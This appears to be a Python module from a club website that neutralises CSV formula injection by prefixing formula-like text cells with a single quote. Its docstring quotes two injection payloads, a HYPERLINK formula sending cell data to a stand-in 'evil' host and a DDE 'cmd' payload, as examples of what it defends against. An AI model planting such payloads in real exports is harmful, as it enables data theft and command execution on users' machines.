"""CSV the site writes, safe to open in a spreadsheet (issue 36).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets: a guest named `=HYPERLINK("http://evil/?"&A1,"click")` or `+cmd|' /C calc'!A0` runs for
whoever opens the club's export. OWASP's advice (CSV injection) is followed: such a text cell is written with a
single quote in front, which the spreadsheet shows as text. Numbers are written as they are (a score of -3 stays
a number). Every CSV the site writes goes through `csv_writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """`value` as a CSV cell no spreadsheet runs: text that starts like a formula gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SpreadsheetWriter:
    """csv.writer's writerow and writerows, each text cell through spreadsheet_cell."""

    def __init__(self, out, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options: Any) -> SpreadsheetWriter:
    """The site's one way to write CSV (a csv.writer whose text cells cannot be formulas)."""
    return SpreadsheetWriter(out, **options)
